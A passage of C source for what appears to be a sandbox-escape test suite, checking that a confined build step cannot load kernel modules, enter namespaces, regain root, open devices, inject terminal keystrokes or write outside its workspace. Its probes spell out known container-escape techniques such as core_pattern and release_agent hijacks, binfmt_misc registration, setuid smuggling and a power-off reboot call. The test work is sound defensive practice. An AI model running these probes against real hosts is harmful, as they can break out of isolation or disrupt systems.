    attr.insns = (uint64_t)(uintptr_t)prog;
    attr.license = (uint64_t)(uintptr_t) "GPL";
    TRY("bpf(BPF_PROG_LOAD socket filter)", syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr));
}
static void s_perf(void) {
    struct perf_event_attr pe;
    memset(&pe, 0, sizeof pe);
    pe.type = PERF_TYPE_SOFTWARE;
    pe.size = sizeof pe;
    pe.config = PERF_COUNT_SW_TASK_CLOCK;
    pe.disabled = 1;
    pe.exclude_kernel = 1;
    pe.exclude_hv = 1;
    TRY("perf_event_open(self, task clock)", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
    pe.type = PERF_TYPE_HARDWARE;
    pe.config = PERF_COUNT_HW_INSTRUCTIONS;
    TRY("perf_event_open(self, instructions)", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
}
static void s_keyctl(void) {
    TRY("keyctl(GET_KEYRING_ID, user)", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1));
    TRY("keyctl(JOIN_SESSION_KEYRING)", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "kiln-escape"));
    TRY("keyctl(DESCRIBE, session)", syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, 0, 0));
}
static void s_add_key(void) {
    TRY("add_key(user, process keyring)",
        syscall(SYS_add_key, "user", "kiln-escape", "x", 1, KEY_SPEC_PROCESS_KEYRING));
    TRY("add_key(user, user keyring)",
        syscall(SYS_add_key, "user", "kiln-escape", "x", 1, KEY_SPEC_USER_KEYRING));
}
static void s_request_key(void) {
    /* would make the host kernel run /sbin/request-key as root, were it reached */
    TRY("request_key(user)", syscall(SYS_request_key, "user", "kiln-escape:upcall", "callout", KEY_SPEC_PROCESS_KEYRING));
}
static void s_kexec(void) {
    TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    TRY("kexec_file_load", syscall(SYS_kexec_file_load, fd, -1, 1, "", 2 /* NO_INITRAMFS */));
    close(fd);
}
static void s_modules(void) {
    static char image[4096];
    memcpy(image, "\177ELF", 4);
    TRY("init_module", syscall(SYS_init_module, image, sizeof image, ""));
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    TRY("finit_module", syscall(SYS_finit_module, fd, "", 0));
    close(fd);
    TRY("delete_module(loop)", syscall(SYS_delete_module, "loop", O_NONBLOCK));
}
static void s_userfaultfd(void) {
    TRY("userfaultfd(USER_MODE_ONLY)", syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | 1));
    TRY("userfaultfd(0)", syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK));
    int fd = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
    if (fd >= 0) escaped("/dev/userfaultfd opened");
}
static void s_io_uring(void) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    TRY("io_uring_setup(4)", syscall(SYS_io_uring_setup, 4, &p));
    TRY("io_uring_enter", syscall(SYS_io_uring_enter, 0, 0, 0, 0, NULL, 0));
    TRY("io_uring_register", syscall(SYS_io_uring_register, 0, 0, NULL, 0));
}
static void s_open_by_handle(void) {
    struct {
        struct file_handle fh;
        unsigned char buf[128];
    } h;
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1;
    memset(h.fh.f_handle, 0, 8);
    h.fh.f_handle[0] = 2;
    int fd = open("/workspace", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    TRY("open_by_handle_at(inode 2)", syscall(SYS_open_by_handle_at, fd, &h.fh, O_RDONLY));
    close(fd);
}
static void s_name_to_handle(void) {
    struct {
        struct file_handle fh;
        unsigned char buf[128];
    } h;
    h.fh.handle_bytes = 128;
    int mid;
    TRY("name_to_handle_at(/workspace)", syscall(SYS_name_to_handle_at, AT_FDCWD, "/workspace", &h.fh, &mid, 0));
    TRY("name_to_handle_at(/usr)", syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &h.fh, &mid, 0));
}
static void s_setns(void) {
    const char *ns[] = {"net", "mnt", "user", "pid", "uts", "ipc", "cgroup"};
    for (size_t i = 0; i < sizeof ns / sizeof *ns; i++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/ns/%s", ns[i]);
        int fd = open(p, O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        char what[64];
        snprintf(what, sizeof what, "setns(own %s)", ns[i]);
        TRY(what, setns(fd, 0));
        close(fd);
    }
    int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (fd >= 0) TRY("setns(init mnt)", setns(fd, 0));
}
static void s_unshare(void) {
    TRY("unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER));
    TRY("unshare(CLONE_NEWUSER|CLONE_NEWNS)", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    TRY("unshare(CLONE_NEWNET)", unshare(CLONE_NEWNET));
    TRY("unshare(CLONE_NEWNS)", unshare(CLONE_NEWNS));
    TRY("unshare(CLONE_NEWPID)", unshare(CLONE_NEWPID));
}

static void try_clone(const char *what, unsigned long flags) {
    fflush(stdout);
    errno = 0;
    long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    if (pid > 0) {
        waitpid((pid_t)pid, NULL, 0);
        escaped("clone(%s) created a process", what);
    } else {
        expect_refused(what, -1, errno);
    }
}
static void s_clone_newuser(void) {
    try_clone("CLONE_NEWUSER", CLONE_NEWUSER);
    try_clone("CLONE_NEWUSER|CLONE_NEWNS", CLONE_NEWUSER | CLONE_NEWNS);
    /* upper bits set: a 32-bit compare on the flags would miss the namespace bit */
    try_clone("CLONE_NEWUSER|1<<32", CLONE_NEWUSER | (1UL << 32));
}
static void s_clone_newns(void) { try_clone("CLONE_NEWNS", CLONE_NEWNS); }
static void s_clone_newnet(void) { try_clone("CLONE_NEWNET", CLONE_NEWNET); }
static void s_clone_other_ns(void) {
    try_clone("CLONE_NEWPID", CLONE_NEWPID);
    try_clone("CLONE_NEWIPC", CLONE_NEWIPC);
    try_clone("CLONE_NEWUTS", CLONE_NEWUTS);
    try_clone("CLONE_NEWCGROUP", CLONE_NEWCGROUP);
}
static void s_clone3(void) {
    struct clone_args ca;
    unsigned long flags[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWUSER | CLONE_NEWPID,
                             0x80 /* CLONE_NEWTIME */};
    for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
        memset(&ca, 0, sizeof ca);
        ca.flags = flags[i];
        ca.exit_signal = SIGCHLD;
        fflush(stdout);
        errno = 0;
        long pid = syscall(SYS_clone3, &ca, sizeof ca);
        if (pid == 0) _exit(0);
        char what[64];
        snprintf(what, sizeof what, "clone3(flags %#lx)", flags[i]);
        if (pid > 0) {
            waitpid((pid_t)pid, NULL, 0);
            escaped("%s created a process", what);
        } else {
            expect_refused(what, -1, errno);
        }
    }
}
static void s_personality(void) {
    int before = personality(0xffffffff);
    errno = 0;
    int r = personality(READ_IMPLIES_EXEC);
    if (r != -1 && (personality(0xffffffff) & READ_IMPLIES_EXEC))
        escaped("personality(READ_IMPLIES_EXEC) took effect");
    else
        expect_refused("personality(READ_IMPLIES_EXEC)", r == -1 ? -1 : 0, errno);
    errno = 0;
    r = personality(ADDR_NO_RANDOMIZE);
    if (r != -1 && (personality(0xffffffff) & ADDR_NO_RANDOMIZE))
        escaped("personality(ADDR_NO_RANDOMIZE) took effect");
    else
        note("personality(ADDR_NO_RANDOMIZE): %s", r == -1 ? strerror(errno) : "no effect");
    errno = 0;
    r = personality(PER_LINUX32);
    if (r != -1 && (personality(0xffffffff) & 0xff) == PER_LINUX32)
        escaped("personality(PER_LINUX32) took effect");
    (void)before;
}
static void s_acct(void) {
    int fd = open("/workspace/acct.log", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    close(fd);
    TRY("acct(/workspace/acct.log)", acct("/workspace/acct.log"));
    TRY("acct(NULL)", acct(NULL));
}
static void s_swap(void) {
    int fd = open("/workspace/swapfile", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    static char page[4096];
    for (int i = 0; i < 16; i++) write(fd, page, sizeof page);
    close(fd);
    TRY("swapon(/workspace/swapfile)", syscall(SYS_swapon, "/workspace/swapfile", 0));
    TRY("swapoff(/workspace/swapfile)", syscall(SYS_swapoff, "/workspace/swapfile"));
    unlink("/workspace/swapfile");
}
static void s_reboot(void) {
    /* CAD_OFF changes nothing visible; a reboot inside a pid namespace would end it */
    TRY("reboot(CAD_OFF)", syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
                                   LINUX_REBOOT_CMD_CAD_OFF, NULL));
    TRY("reboot(POWER_OFF)", syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
                                     LINUX_REBOOT_CMD_POWER_OFF, NULL));
}
static void s_clock(void) {
    struct timeval tv;
    gettimeofday(&tv, NULL);
    TRY("settimeofday(now)", settimeofday(&tv, NULL));
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    TRY("clock_settime(REALTIME, now)", clock_settime(CLOCK_REALTIME, &ts));
    struct timex tx;
    memset(&tx, 0, sizeof tx);
    tx.modes = ADJ_OFFSET | ADJ_STATUS;
    tx.status = 0;
    TRY("adjtimex(ADJ_OFFSET 0)", adjtimex(&tx));
    memset(&tx, 0, sizeof tx);
    tx.modes = ADJ_OFFSET;
    TRY("clock_adjtime(REALTIME, ADJ_OFFSET 0)", syscall(SYS_clock_adjtime, CLOCK_REALTIME, &tx));
}
static void s_io_ports(void) {
    TRY("iopl(3)", syscall(SYS_iopl, 3));
    TRY("ioperm(0x80)", syscall(SYS_ioperm, 0x80, 1, 1));
}

struct denied {
    const char *name;
    void (*fn)(void);
};
static const struct denied DENIED[] = {
    {"mount", s_mount},
    {"umount2", s_umount},
    {"pivot_root", s_pivot_root},
    {"chroot", s_chroot},
    {"ptrace", s_ptrace},
    {"bpf", s_bpf},
    {"perf_event_open", s_perf},
    {"keyctl", s_keyctl},
    {"add_key", s_add_key},
    {"request_key", s_request_key},
    {"kexec_load", s_kexec},
    {"modules", s_modules},
    {"userfaultfd", s_userfaultfd},
    {"io_uring_setup", s_io_uring},
    {"open_by_handle_at", s_open_by_handle},
    {"name_to_handle_at", s_name_to_handle},
    {"setns", s_setns},
    {"unshare", s_unshare},
    {"clone-newuser", s_clone_newuser},
    {"clone-newns", s_clone_newns},
    {"clone-newnet", s_clone_newnet},
    {"clone-other-ns", s_clone_other_ns},
    {"clone3", s_clone3},
    {"personality", s_personality},
    {"acct", s_acct},
    {"swapon", s_swap},
    {"reboot", s_reboot},
    {"clock", s_clock},
    {"io-ports", s_io_ports},
    {"x32", s_x32},
    {"ia32", s_ia32},
};

/* sys NAME: one family of the deny list, in a child (a SIGSYS kill is containment). */
static void a_sys(int argc, char **argv) {
    if (argc < 1) {
        inconclusive("usage: sys NAME");
        return;
    }
    for (size_t i = 0; i < sizeof DENIED / sizeof *DENIED; i++) {
        if (strcmp(DENIED[i].name, argv[0]) == 0) {
            in_child(argv[0], DENIED[i].fn);
            return;
        }
    }
    inconclusive("unknown syscall family %s", argv[0]);
}

/* ---------------------------------------------------------------- privileges */

static int caps_empty(void) {
    struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct d[2];
    if (syscall(SYS_capget, &h, d) != 0) return 0;
    return !(d[0].effective | d[1].effective | d[0].permitted | d[1].permitted |
             d[0].inheritable | d[1].inheritable);
}

/* privs: no way back to root or to a capability. */
static void a_privs(int argc, char **argv) {
    (void)argc, (void)argv;
    if (getuid() != 1000 || geteuid() != 1000) escaped("running as uid %d/%d", getuid(), geteuid());
    if (!caps_empty()) escaped("capabilities present at start");
    TRY("setuid(0)", setuid(0));
    TRY("setresuid(0,0,0)", setresuid(0, 0, 0));
    TRY("setgid(0)", setgid(0));
    gid_t g0 = 0;
    TRY("setgroups([0])", setgroups(1, &g0));
    struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct d[2];
    memset(d, 0xff, sizeof d);
    TRY("capset(all)", syscall(SYS_capset, &h, d));
    TRY("prctl(CAP_AMBIENT_RAISE, SYS_ADMIN)", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
    prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
    if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1) escaped("no_new_privs is not set");
    if (prctl(PR_GET_SECCOMP, 0, 0, 0, 0) != 2) escaped("seccomp filter mode is not on");
    const char *maps[] = {"/proc/self/uid_map", "/proc/self/gid_map", "/proc/self/setgroups"};
    for (int i = 0; i < 3; i++) {
        int fd = open(maps[i], O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            if (write(fd, "0 0 1\n", 6) == 6) escaped("wrote %s", maps[i]);
            close(fd);
        }
    }
    TRY("sethostname", sethostname("pwned", 5));
    if (!caps_empty()) escaped("capabilities gained");
    if (getuid() != 1000 || geteuid() != 1000) escaped("uid changed to %d/%d", getuid(), geteuid());
}

/* euid: the verdict of an exec'd setuid file: exits 66 if it runs with any privilege. */
static int a_euid(void) {
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    printf("  exec'd: uid %d euid %d suid %d caps %s\n", r, e, s, caps_empty() ? "none" : "SOME");
    if (e != 1000 || r != 1000 || s != 1000 || !caps_empty()) {
        printf("ESCAPED setuid: privileges after exec (euid %d)\n", e);
        return EXIT_ESCAPED;
    }
    return 0;
}

static int exec_euid(const char *path) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        execl(path, path, "euid", (char *)NULL);
        printf("  exec %s: %s\n", path, strerror(errno));
        _exit(0);
    }
    int st;
    waitpid(pid, &st, 0);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

static int copy_file(const char *from, const char *to, mode_t mode) {
    int in = open(from, O_RDONLY | O_CLOEXEC);
    int out = open(to, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, mode);
    if (in < 0 || out < 0) return -1;
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0) write(out, buf, (size_t)n);
    close(in);
    close(out);
    return 0;
}

/* setuid [SMUGGLED]: a setuid-root file cannot be made; a setuid file of our own, or one
 * uploaded setuid-root by the client, or one of the image, runs without privilege. */
static void a_setuid(int argc, char **argv) {
    if (copy_file("/proc/self/exe", "/workspace/suid", 0755) != 0) {
        inconclusive("copying self: %s", strerror(errno));
        return;
    }
    TRY("chown(suid, 0, 0)", chown("/workspace/suid", 0, 0));
    TRY("chown(suid, 65534)", chown("/workspace/suid", 65534, 65534));
    if (chmod("/workspace/suid", 04755 | 02000) != 0) note("chmod u+s,g+s: %s", strerror(errno));
    struct stat st;
    stat("/workspace/suid", &st);
    note("own copy: uid %d mode %o", st.st_uid, st.st_mode & 07777);
    if (st.st_uid == 0) escaped("created a root-owned file");
    if (exec_euid("/workspace/suid") == EXIT_ESCAPED) g_escaped = 1;
    /* same in /tmp and /dev/shm */
    if (copy_file("/proc/self/exe", "/tmp/suid", 04755) == 0) {
        chmod("/tmp/suid", 04755);
        if (exec_euid("/tmp/suid") == EXIT_ESCAPED) g_escaped = 1;
    }
    for (int a = 0; a < argc; a++) {
        if (stat(argv[a], &st) != 0) {
            note("smuggled %s: %s", argv[a], strerror(errno));
            continue;
        }
        note("smuggled %s: uid %d mode %o", argv[a], st.st_uid, st.st_mode & 07777);
        if (st.st_uid == 0 && (st.st_mode & S_ISUID)) note("a setuid-root file is in the workspace");
        if (exec_euid(argv[a]) == EXIT_ESCAPED) g_escaped = 1;
    }
    /* The image's setuid-root programs: with the suid bit honoured, glibc runs them in
     * secure mode and ignores LD_DEBUG; its output on stderr shows the bit was ignored. */
    const char *progs[] = {"/usr/bin/passwd", "/usr/bin/su", "/usr/bin/chsh", "/usr/bin/newgrp",
                           "/usr/bin/mount", "/usr/bin/sudo", "/usr/bin/gpasswd"};
    int tried = 0;
    for (size_t i = 0; i < sizeof progs / sizeof *progs; i++) {
        if (stat(progs[i], &st) != 0 || !(st.st_mode & S_ISUID)) continue;
        tried++;
        int p[2];
        if (pipe(p) != 0) continue;
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            dup2(p[1], 2);
            int devnull = open("/dev/null", O_RDWR);
            dup2(devnull, 0);
            dup2(devnull, 1);
            char *envp[] = {"LD_DEBUG=libs", NULL};
            execle(progs[i], progs[i], "--help", (char *)NULL, envp);
            _exit(127);
        }
        close(p[1]);
        static char out[1 << 16];
        read_all(p[0], out, sizeof out);
        close(p[0]);
        waitpid(pid, NULL, 0);
        if (strstr(out, "find library") || strstr(out, "calling init"))
            note("%s (setuid %d): ran without secure mode, the bit was ignored", progs[i], st.st_uid);
        else
            escaped("%s ran in secure mode: the setuid bit took effect", progs[i]);
    }
    note("%d setuid programs of the image tried", tried);
}

/* ---------------------------------------------------------------- devices, /proc, /sys */

static void a_devices(int argc, char **argv) {
    (void)argc, (void)argv;
    struct {
        const char *path;
        mode_t mode;
        dev_t dev;
    } nodes[] = {
        {"/workspace/mem", S_IFCHR | 0666, makedev(1, 1)},
        {"/workspace/kmsg", S_IFCHR | 0666, makedev(1, 11)},
        {"/workspace/sda", S_IFBLK | 0666, makedev(8, 0)},
        {"/workspace/vda", S_IFBLK | 0666, makedev(253, 0)},
        {"/tmp/mem", S_IFCHR | 0666, makedev(1, 1)},
        {"/dev/shm/mem", S_IFCHR | 0666, makedev(1, 1)},
        {"/dev/mem", S_IFCHR | 0666, makedev(1, 1)},
    };
    for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
        char what[96];
        snprintf(what, sizeof what, "mknod(%s)", nodes[i].path);
        TRY(what, mknod(nodes[i].path, nodes[i].mode, nodes[i].dev));
        unlink(nodes[i].path);
    }
    const char *devs[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sda",
                          "/dev/vda", "/dev/nvme0n1", "/dev/console", "/dev/tty0", "/dev/tty1",
                          "/dev/loop0", "/dev/loop-control", "/dev/fuse", "/dev/net/tun",
                          "/dev/kvm", "/dev/vhost-net", "/dev/cpu/0/msr", "/dev/mapper/control",
                          "/dev/uinput", "/dev/snapshot", "/dev/btrfs-control", "/dev/vsock",
                          "/dev/hpet", "/dev/rtc0", "/dev/watchdog", "/proc/kcore", "/proc/kmsg"};
    for (size_t i = 0; i < sizeof devs / sizeof *devs; i++) {
        int fd = open(devs[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (fd >= 0) {
            escaped("opened %s", devs[i]);
            close(fd);
        }
    }
    /* what /dev holds: only the minimal set */
    const char *allowed[] = {".", "..", "null", "zero", "full", "random", "urandom", "tty",
                             "pts", "shm", "ptmx", "fd", "stdin", "stdout", "stderr"};
    DIR *d = opendir("/dev");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int ok = 0;
        for (size_t i = 0; i < sizeof allowed / sizeof *allowed; i++)
            if (strcmp(e->d_name, allowed[i]) == 0) ok = 1;
        if (!ok) escaped("unexpected /dev/%s", e->d_name);
    }
    if (d) closedir(d);
    int fd = open("/dev/kiln-escape", O_CREAT | O_WRONLY | O_CLOEXEC, 0666);
    if (fd >= 0) escaped("created /dev/kiln-escape");
}

/* tiocsti: no terminal outside the step can be fed keystrokes. */
static void a_tiocsti(int argc, char **argv) {
    (void)argc, (void)argv;
    const char *inject = "echo KILN-TIOCSTI-INJECTED\n";
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
    if (fd >= 0) {
        note("/dev/tty opened: the step has a controlling terminal");
        int n = 0;
        for (const char *c = inject; *c; c++)
            if (ioctl(fd, TIOCSTI, c) == 0) n++;
        if (n > 0) escaped("TIOCSTI pushed %d bytes into the controlling terminal", n);
        else note("TIOCSTI on /dev/tty: %s", strerror(errno));
        close(fd);
    } else {
        note("/dev/tty: %s", strerror(errno));
    }
    for (int f = 0; f < 3; f++) {
        errno = 0;
        if (ioctl(f, TIOCSTI, "x") == 0) escaped("TIOCSTI on fd %d succeeded", f);
        else note("TIOCSTI fd %d: %s", f, strerror(errno));
    }
    /* any tty among the fds of visible processes */
    int pids[512];
    int np = list_pids(pids, 512);
    for (int i = 0; i < np; i++) {
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%d/fd", pids[i]);
        DIR *d = opendir(dir);
        if (!d) continue;
        struct dirent *e;
        while ((e = readdir(d))) {
            char p[128], t[256] = {0};
            snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
            if (readlink(p, t, sizeof t - 1) <= 0) continue;
            if (strncmp(t, "/dev/tty", 8) && strncmp(t, "/dev/pts", 8) && strncmp(t, "/dev/console", 12)) continue;
            int tfd = open(p, O_RDWR | O_NOCTTY | O_CLOEXEC);
            if (tfd >= 0 && ioctl(tfd, TIOCSTI, "x") == 0) escaped("TIOCSTI through %s (%s)", p, t);
            if (tfd >= 0) close(tfd);
        }
        closedir(d);
    }
}

static void try_write(const char *path, const char *data) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        note("%s: %s", path, strerror(errno));
        return;
    }
    ssize_t w = write(fd, data, strlen(data));
    if (w > 0) escaped("wrote %s", path);
    else note("%s: opened, write %s", path, strerror(errno));
    close(fd);
}

/* proc-sys: the kernel's knobs are not the step's. */
static void a_proc_sys(int argc, char **argv) {
    (void)argc, (void)argv;
    try_write("/proc/sys/kernel/core_pattern", "|/workspace/attack pwn");
    try_write("/proc/sys/kernel/modprobe", "/workspace/attack");
    try_write("/proc/sys/kernel/hostname", "pwned");
    try_write("/proc/sys/kernel/domainname", "pwned");
    try_write("/proc/sys/vm/drop_caches", "3");
    try_write("/proc/sys/kernel/sysrq", "1");
    try_write("/proc/sysrq-trigger", "h");
    try_write("/proc/sys/fs/binfmt_misc/register", ":kiln:E::kiln::/workspace/attack:");
    try_write("/proc/sys/net/ipv4/ip_forward", "1");
    try_write("/proc/sys/user/max_user_namespaces", "100");
    try_write("/proc/self/oom_score_adj", "-1000");
    try_write("/proc/1/oom_score_adj", "1000");
    try_write("/proc/self/attr/current", "unconfined");
    try_write("/proc/self/coredump_filter", "0xff");
    try_write("/proc/self/loginuid", "0");
}

/* sys-fs: /sys is absent or read-only; the cgroup release_agent escape has no file. */
static void a_sys_fs(int argc, char **argv) {
    (void)argc, (void)argv;
    struct stat st;
    if (stat("/sys", &st) != 0) {
        note("/sys: %s", strerror(errno));
    } else {
        struct statvfs v;
        if (statvfs("/sys", &v) == 0 && !(v.f_flag & ST_RDONLY)) escaped("/sys is mounted read-write");
        try_write("/sys/kernel/uevent_helper", "/workspace/attack");
        try_write("/sys/power/state", "freeze");
        try_write("/sys/kernel/mm/transparent_hugepage/enabled", "never");
        try_write("/sys/fs/cgroup/release_agent", "/workspace/attack");
        try_write("/sys/fs/cgroup/memory/release_agent", "/workspace/attack");
        try_write("/sys/fs/cgroup/cgroup.procs", "1");
        if (access("/sys/firmware/efi", F_OK) == 0) escaped("host firmware tree visible");
    }
    /* mount a fresh sysfs or cgroup fs */
    mkdir("/tmp/sys", 0755);
    TRY("mount(sysfs)", mount("sysfs", "/tmp/sys", "sysfs", 0, NULL));
    TRY("mount(cgroup, memory)", mount("cgroup", "/tmp/sys", "cgroup", 0, "memory"));
    TRY("mount(cgroup2)", mount("cgroup2", "/tmp/sys", "cgroup2", 0, NULL));
}

/* fd-leak: no descriptor of the daemon or the init is reachable: every open fd of the
 * process is stdio, and none of them is a directory or a host file. */
static void a_fd_leak(int argc, char **argv) {
    (void)argc, (void)argv;
    for (int fd = 0; fd < 4096; fd++) {
        struct stat st;
        if (fstat(fd, &st) != 0) continue;
        char p[64], t[512] = {0};
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        readlink(p, t, sizeof t - 1);
        if (fd > 2) {
            escaped("inherited fd %d -> %s", fd, t);
        }
        if (S_ISDIR(st.st_mode)) {
            escaped("fd %d is a directory (%s)", fd, t);
            if (fchdir(fd) == 0) {
                char cwd[512];
                if (getcwd(cwd, sizeof cwd)) note("fchdir(%d) -> %s", fd, cwd);
            }
        }
        if (S_ISREG(st.st_mode)) escaped("fd %d is a regular file (%s)", fd, t);
        note("fd %d -> %s", fd, t);
    }
    char cwd[512];
    if (!getcwd(cwd, sizeof cwd) || strcmp(cwd, "/workspace") != 0)
        escaped("cwd is %s, not /workspace", cwd);
    /* the fds of every other process in the namespace */
    int pids[512];
    int np = list_pids(pids, 512);
    for (int i = 0; i < np; i++) {
        if (pids[i] == getpid()) continue;
        char dir[64];
        snprintf(dir, sizeof dir, "/proc/%d/fd", pids[i]);
        DIR *d = opendir(dir);
        if (!d) {
            note("%s: %s", dir, strerror(errno));
            continue;
        }
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            char pth[128];
            snprintf(pth, sizeof pth, "%s/%s", dir, e->d_name);
            int fd = open(pth, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
            if (fd >= 0) {
                escaped("opened %s of pid %d", pth, pids[i]);
                close(fd);
            }
        }
        closedir(d);
    }
}

/* ---------------------------------------------------------------- writing outside */

/* write-image TAG: the image root, /usr, /etc, /proc and /dev are read-only; nothing is
 * written (the test looks for TAG on the host). Non-destructive probes only. */
static void a_write_image(int argc, char **argv) {
    const char *tag = argc > 0 ? argv[0] : "kiln-escape";
    const char *dirs[] = {"/", "/usr", "/usr/bin", "/usr/lib", "/etc", "/bin", "/lib",
                          "/sbin", "/lib64", "/proc", "/dev", "/dev/pts", "/workspace/..",
                          "/proc/self/root", "/proc/self/cwd/..", "/etc/alternatives"};
    for (size_t i = 0; i < sizeof dirs / sizeof *dirs; i++) {
        char p[512];
        snprintf(p, sizeof p, "%s/%s", dirs[i], tag);
        int fd = open(p, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);
        if (fd >= 0) {
            escaped("created %s", p);
            close(fd);
        } else if (!refused_errno(errno) && errno != ENOENT) {
            inconclusive("create %s: %s", p, strerror(errno));
        }
        char d[512];
        snprintf(d, sizeof d, "%s/%s.d", dirs[i], tag);
        if (mkdir(d, 0755) == 0) escaped("mkdir %s", d);
    }
    const char *files[] = {"/etc/passwd", "/etc/hosts", "/usr/bin/sh", "/bin/sh",
                           "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/ld.so.cache"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int fd = open(files[i], O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0) {
            escaped("opened %s for writing", files[i]);
            close(fd);
        }
        struct stat st;
        if (stat(files[i], &st) == 0) {
            if (chmod(files[i], st.st_mode & 07777) == 0) escaped("chmod %s", files[i]);
            if (chown(files[i], (uid_t)-1, (gid_t)-1) == 0 && 0) escaped("chown %s", files[i]);
            struct timespec keep[2] = {{0, UTIME_NOW}, {0, UTIME_NOW}};
            if (utimensat(AT_FDCWD, files[i], keep, 0) == 0) escaped("utimensat %s", files[i]);
        }
    }
    char p[512];
    snprintf(p, sizeof p, "/usr/%s", tag);
    if (rename("/etc/hosts", p) == 0) escaped("renamed /etc/hosts to %s", p);
    else note("rename /etc/hosts: %s", strerror(errno));
    TRY("symlink in /usr", symlink("/workspace", p));
}

/* links: hard and symbolic links do not lead out of the workspace for writing. */
static void a_links(int argc, char **argv) {
    (void)argc, (void)argv;
    const char *targets[] = {"/etc/passwd", "/usr/bin/sh", "/etc/hosts", "/proc/1/exe",
                             "/proc/self/exe", "/dev/null"};
    for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
        char name[64];
        snprintf(name, sizeof name, "/workspace/hard%zu", i);
        errno = 0;
        if (link(targets[i], name) == 0) {
            struct stat a, b;
            stat(targets[i], &a);
            stat(name, &b);
            if (strcmp(targets[i], "/proc/self/exe") != 0) escaped("hard link %s -> %s", name, targets[i]);
            unlink(name);
        } else {
            note("link(%s): %s", targets[i], strerror(errno));
        }
    }
    /* AT_EMPTY_PATH link of an fd opened elsewhere */
    int fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
    if (linkat(fd, "", AT_FDCWD, "/workspace/hardfd", AT_EMPTY_PATH) == 0)
        escaped("linkat(AT_EMPTY_PATH) of /etc/passwd");
    char pfd[64];
    snprintf(pfd, sizeof pfd, "/proc/self/fd/%d", fd);
    if (linkat(AT_FDCWD, pfd, AT_FDCWD, "/workspace/hardproc", AT_SYMLINK_FOLLOW) == 0)
        escaped("linkat through %s", pfd);
    close(fd);
    /* symlinks out: writing through them must still fail */
    const char *sl[] = {"/etc/passwd", "/usr/bin/sh", "/etc", "/"};
    for (size_t i = 0; i < sizeof sl / sizeof *sl; i++) {
        char name[64];
        snprintf(name, sizeof name, "/workspace/sym%zu", i);
        symlink(sl[i], name);
        int w = open(name, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) escaped("wrote through symlink to %s", sl[i]);
        char inner[128];
        snprintf(inner, sizeof inner, "%s/kiln-escape", name);
        w = open(inner, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
        if (w >= 0) escaped("created %s through a symlinked directory", inner);
    }
    /* renameat2 exchange of the workspace with the root */
    if (syscall(SYS_renameat2, AT_FDCWD, "/workspace/sym3", AT_FDCWD, "/usr", 2) == 0)
        escaped("renameat2(EXCHANGE) swapped a workspace entry with /usr");
    else
